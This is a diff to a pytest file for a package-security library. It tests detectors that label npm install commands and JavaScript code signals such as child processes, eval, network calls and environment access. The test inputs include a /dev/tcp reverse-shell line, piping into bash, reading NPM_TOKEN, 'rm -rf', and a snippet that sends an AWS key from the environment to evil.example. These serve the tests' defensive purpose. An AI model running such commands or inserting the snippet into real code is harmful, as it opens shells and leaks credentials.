@@ -2,6 +2,7 @@ import math
 import re
 from collections import Counter
 
+import pytest
 from pyspark.sql import functions as F
 
 from lodetrace.functions import cvss, detectors, packages, text, versions
@@ -104,8 +105,34 @@ def test_version_ranges(spark):
     assert [r[0] for r in df.select(versions.within(F.col("v"), F.col("e"), F.lit("npm"))).collect()] == [True, False, True, True, False, False, True]
 
 
-def test_detectors(spark):
-    assert column(spark, ["curl x | sh", "node -e '1'", "echo ok"], detectors.script_labels) == [["downloads", "pipes-to-shell"], ["inline-code"], []]
-    code = "const c = require('child_process'); import x from 'axios'; eval('1'); fetch(process.env.URL); export {y} from '@a/b/c'; import('./z')"
-    assert column(spark, [code], detectors.code_signals) == [["child-process", "dynamic-eval", "network", "env-access"]]
-    assert column(spark, [code], detectors.imported) == [["child_process", "axios", "@a/b/c", "./z"]]
+@pytest.mark.parametrize(
+    ("command", "labels"),
+    [
+        ("curl -s https://a.example/x", ["downloads remote content (curl/wget)"]), ("cat x | bash", ["pipes downloaded content into a shell"]), ("node -e '1'", ["inline code execution"]),
+        ("echo aGk= | base64 --decode", ["base64-decoded payload"]), ("echo ${NPM_TOKEN}", ["reads environment/secrets"]), ("bash -i >& /dev/tcp/h/1", ["raw TCP / reverse shell"]), ("ping http://10.1.2.3/", ["contacts a raw IP address"]),
+        ("rm -rf ~/x", ["destructive filesystem operation"]), ("chmod +x run", ["marks a file executable"]), ("node build.js && curly && rm -rf dist && sync", []), (None, None),
+    ],
+)
+def test_install_commands(spark, command, labels):
+    assert (column(spark, [command], detectors.script_labels) or [None])[0] == (labels if labels is not None else [])
+
+
+def test_signals_of_code(spark):
+    def kinds(code):
+        return set(column(spark, [code], detectors.code_signals)[0])
+
+    assert kinds("const cp = require('child_process');\ncp.exec('whoami'); eval(atob('...'));\nconst key = process.env.AWS; fetch('http://evil.example/' + key);") == {"child-process", "dynamic-eval", "env-access", "network"}
+    for code in ("import { exec } from 'child_process';", "import cp from 'node:child_process';", "export { spawn } from 'child_process';", "const cp = await import('child_process');"):
+        assert kinds(code) == {"child-process"}, code
+    assert kinds("export * from 'node:net';") == kinds("import https from 'https';") == kinds('import "dns"') == {"network"}
+    assert kinds('const t = process["env"]["NPM_TOKEN"];') == {"env-access"} and kinds("x = new Function('a')") == {"dynamic-eval"} and kinds("Buffer.from(p(1, [2]), 'base64')") == {"obfuscation"}
+    # comments, strings, members and what does not pair are no code
+    assert not kinds("// eval(x)\n/* fetch(1) */ log('eval(x) require(\\'vm\\')'); a.eval(1); o.require('vm'); `process.env`") and not kinds("eval(((") and not kinds("export const add = (a, b) => a + b;") and not kinds("import { readFile } from 'node:fs/promises';")
+    counts = column(spark, ["eval(a); eval(b); require('http'); fetch(c)"], detectors.signal_counts)[0]
+    assert counts == {"dynamic-eval": 2, "network": 2}
+
+
+def test_imports_of_code(spark):
+    code = "import a from 'foo';\nimport { b } from '@scope/bar';\nconst c = require('baz');\nimport('qux');\nexport * from 'quux';\nimport rel from './local'; import 'side'; // import x from 'no'\nvar s = \"import y from 'no2'\"; require(`t`); require(v)"
+    assert sorted(column(spark, [code], detectors.imported)[0]) == sorted(["foo", "@scope/bar", "baz", "qux", "quux", "./local", "side"])
+    assert column(spark, ["this is (((not valid", "", "'" + "\\\\" * 50_000 + "' require('x')"], detectors.imported) == [[], [], ["x"]]
